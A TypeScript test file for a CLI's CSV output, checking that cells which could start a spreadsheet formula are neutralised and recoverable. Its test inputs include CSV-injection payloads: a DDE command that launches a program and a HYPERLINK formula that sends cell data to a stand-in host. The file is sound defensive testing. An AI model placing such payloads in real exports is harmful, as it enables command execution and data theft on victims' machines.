// CSV output opened in Excel: no cell may start a formula. A text cell (id, errors, explain, column
// names) that begins with `=`, `+`, `-`, `@`, tab, CR (OWASP "CSV Injection") or NUL (OWASP ASVS
// 1.2.10) gets a leading `'` and is quoted, and so does one that begins with `'`; a plain signed
// number (`-5`) stays as it is, since no spreadsheet reads it as anything but that number. Dropping
// the leading `'` of a cell gives back the exact value.
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvFormatter, csvTextCell } from '@visit/batch';
import { buildCli, tempDir, visit } from './cli-support';

const tmp = tempDir('csv-formula');
const AS_OF = ['--as-of', '2026-01-01'];
beforeAll(buildCli);
afterAll(() => tmp.remove());

const RULES = `record C {
  id:   text key personal
  age:  integer
}

group voksen "=HYPERLINK(1)" = age >= 18

program p "@SUM(1+1)" {
  require voksen "-2+3"
}
`;

const DANGEROUS = new Set(['=', '+', '-', '@', '\t', '\r', '\u0000']);
const SIGNED_NUMBER = /^[+-][0-9]+(?:[.,][0-9]+)?$/;

/** The spreadsheet's view: would this cell, as read from the file, start a formula? */
function startsFormula(cell: string): boolean {
  return cell.length > 0 && DANGEROUS.has(cell[0]!) && !SIGNED_NUMBER.test(cell);
}

/** The documented way back: a cell that starts with `'` lost its first character. */
function original(cell: string): string {
  return cell.startsWith("'") ? cell.slice(1) : cell;
}

function rowsOf(csv: string): string[][] {
  return parse(csv, { relax_column_count: false }) as string[][];
}

describe('the id column (from CSV input)', () => {
  it.each([
    { id: '=1+2', cell: `"'=1+2"` },
    { id: '=HYPERLINK("http://x.example/?"&A1;"klik")', cell: `"'=HYPERLINK(""http://x.example/?""&A1;""klik"")"` },
    { id: '+1+1', cell: `"'+1+1"` },
    { id: '-2+3', cell: `"'-2+3"` },
    { id: "@SUM(A1:A9)", cell: `"'@SUM(A1:A9)"` },
    { id: "=cmd|' /C calc'!A0", cell: `"'=cmd|' /C calc'!A0"` },
    // Plain signed numbers are numbers, not formulas: left as they are.
    { id: '-5', cell: '-5' },
    { id: '+45', cell: '+45' },
    { id: '-0.5', cell: '-0.5' },
    // Not at the start: harmless.
    { id: '0101901234', cell: '0101901234' },
    { id: 'a=1', cell: 'a=1' },
    // A leading quote is doubled, so that the way back is exact.
    { id: "'=already", cell: `"''=already"` },
    { id: "'quoted", cell: `"''quoted"` },
  ])('$id → $cell', async ({ id, cell }) => {
    const input = tmp.write(`id-${Buffer.from(id).toString('hex')}.csv`, `id,age\n${id.includes('"') || id.includes(',') ? `"${id.replace(/"/g, '""')}"` : id},30\n`);
    const run = await visit(['screen', tmp.write('r.visit', RULES), input, ...AS_OF, '--format', 'csv']);
    expect(run.code).toBe(0);
    const line = run.stdout.split('\r\n')[1]!;
    expect(line).toBe(`1,${cell},ok,true,eligible,`);
    expect(original(rowsOf(run.stdout)[1]![1]!)).toBe(id);
  });
});

describe('the id column (from NDJSON input)', () => {
  it.each([
    { id: '\u0000NUL', cell: `"'\u0000NUL"` },
    { id: '=1', cell: `"'=1"` },
    { id: '-5', cell: '-5' },
  ])('$id → $cell', async ({ id, cell }) => {
    const input = tmp.write(`nd-${Buffer.from(id).toString('hex')}.ndjson`, `${JSON.stringify({ id, age: 30 })}\n`);
    const run = await visit(['screen', tmp.write('r.visit', RULES), input, ...AS_OF, '--format', 'csv']);
    expect(run.stdout.split('\r\n')[1]).toBe(`1,${cell},ok,true,eligible,`);
  });

  it('an invalid row carries its id neutralised too', async () => {
    const input = tmp.write('invalid.ndjson', `${JSON.stringify({ id: '=2*3', age: 'x' })}\n`);
    const run = await visit(['screen', tmp.write('r.visit', RULES), input, ...AS_OF, '--format', 'csv']);
    expect(run.code).toBe(1);
    expect(run.stdout.split('\r\n')[1]).toMatch(/^1,"'=2\*3",invalid,,,/);
  });

  it('NDJSON output keeps every id exactly', async () => {
    const input = tmp.write('exact.ndjson', `${JSON.stringify({ id: '=1+2', age: 30 })}\n`);
    const run = await visit(['screen', tmp.write('r.visit', RULES), input, ...AS_OF]);
    expect(JSON.parse(run.stdout.split('\n')[0]!).id).toBe('=1+2');
  });
});

describe('every text cell of the CSV output', () => {
  it('labels in the explain column, whatever the rules say', async () => {
    const input = tmp.write('explain.csv', 'id,age\n1,30\n');
    const run = await visit(['screen', tmp.write('r.visit', RULES), input, ...AS_OF, '--format', 'csv', '--explain']);
    for (const row of rowsOf(run.stdout)) for (const cell of row) expect(startsFormula(cell)).toBe(false);
    expect(run.stdout).toContain('""=HYPERLINK(1)""'); // inside the cell, not at its start
  });

  it.each([
    { name: 'an error that starts like a formula', errors: ['=1+2 is not a date'], cell: `"'=1+2 is not a date"` },
    { name: 'errors joined, the first one decides', errors: ['-x', '=y'], cell: `"'-x; =y"` },
    { name: 'an ordinary error', errors: ['age: expected an integer'], cell: 'age: expected an integer' },
  ])('the errors column: $name', ({ errors, cell }) => {
    const tail = csvFormatter(['g'], ['p'], false).invalidTail({ id: null, errors });
    expect(tail).toBe(`,,invalid,,,${cell}\r\n`);
  });

  it.each([
    { text: '\tTAB', cell: `"'\tTAB"` },
    { text: '\rCR', cell: `"'\rCR"` },
    { text: '\u0000NUL', cell: `"'\u0000NUL"` },
    { text: "'", cell: `"''"` },
    { text: '', cell: '' },
    { text: '-', cell: `"'-"` },
    { text: '-5,5', cell: '"-5,5"' },
  ])('csvTextCell($text) → $cell (ids are trimmed on reading, so tab and CR reach only other cells)', ({ text, cell }) => {
    expect(csvTextCell(text)).toBe(cell);
  });

  it('the header: column names from the rules', () => {
    const header = csvFormatter(['=g', 'ok'], ['@p'], true).header;
    expect(header).toBe(`row,id,status,"'=g",ok,"'@p",errors,explain\r\n`);
  });
});

const cellChar = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\u0000', "'", '"', ',', ';', ' ', '0', '5', '.', 'a', 'Æ', 'ø', '(', ')', '|', '!');
const cellText = fc.string({ unit: cellChar, maxLength: 12 });

describe('property: no cell starts a formula, and the value comes back', () => {
  it('csvTextCell over generated texts', () => {
    fc.assert(
      fc.property(cellText, (text) => {
        const cell = csvTextCell(text);
        const [[read]] = rowsOf(`${cell}\r\n`.replace(/^\r\n$/, '""\r\n')) as [[string]];
        expect(startsFormula(read)).toBe(false);
        expect(original(read)).toBe(text);
        if (startsFormula(text) || text.startsWith("'")) expect(cell.startsWith(`"'`)).toBe(true);
        else expect(read).toBe(text);
      }),
      { numRuns: 5_000 },
    );
  });

  it('a screen run with generated ids (NDJSON in, CSV out)', async () => {
    // Ids are trimmed on reading: generate them without surrounding white space.
    const key = fc.string({ unit: cellChar, minLength: 1, maxLength: 10 }).filter((s) => s.trim() !== '' && s === s.trim());
    let n = 0;
    await fc.assert(
      fc.asyncProperty(fc.uniqueArray(key, { minLength: 1, maxLength: 60 }), async (ids) => {
        const input = tmp.write(`prop-${++n}.ndjson`, ids.map((id, i) => JSON.stringify({ id, age: i })).join('\n') + '\n');
        const run = await visit(['screen', tmp.write('r.visit', RULES), input, ...AS_OF, '--format', 'csv']);
        const rows = rowsOf(run.stdout).slice(1);
        expect(rows).toHaveLength(ids.length);
        rows.forEach((row, i) => {
          for (const cell of row) expect(startsFormula(cell)).toBe(false);
          if (row[2] === 'ok') expect(original(row[1]!)).toBe(ids[i]);
        });
      }),
      { numRuns: 6 },
    );
  });
});
